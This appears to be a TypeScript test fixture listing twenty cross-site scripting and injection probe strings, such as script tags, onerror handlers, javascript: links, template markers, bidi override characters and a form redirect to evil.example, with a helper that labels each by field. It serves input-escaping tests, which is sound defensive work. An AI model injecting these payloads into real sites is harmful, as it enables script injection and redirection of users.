/**
 * What somebody who means harm types where a name, a note or a place is asked for: twenty ways by
 * which text has become code, or something else than it looks, elsewhere. None is longer than the
 * shortest field for words takes. T21.
 */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  `' onfocus='alert(1)' autofocus='`,
  '" onmouseover="alert(1)" x="',
  'javascript:alert(1)',
  '[a](javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="data:text/html,<script>alert(1)</script>">',
  '<b onclick=alert(1)>',
  '<style>*{display:none}</style>',
  '{{7*7}} #{alert(1)} <%= 7*7 %>',
  '</textarea></title><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;',
  '\u202egnp.exe\u202c \u2066x\u2069',
  'null\u0000byte <img src=x onerror=alert(1)>',
  '<form action=//evil.example><meta http-equiv=refresh content=0>',
]

/** The most a telephone number may be long. */
const SHORT_CHARS = 30
const SHORT = PAYLOADS.filter((payload) => payload.length <= SHORT_CHARS - 4)

/** Unlike any other text, so that it can be found again: which place it was typed into, and which it is. */
export const typedInto = (tag: string, index: number): string => {
  const all = tag.length === 1 ? SHORT : PAYLOADS
  return `${tag}${index} ${all[index % all.length]}`
}
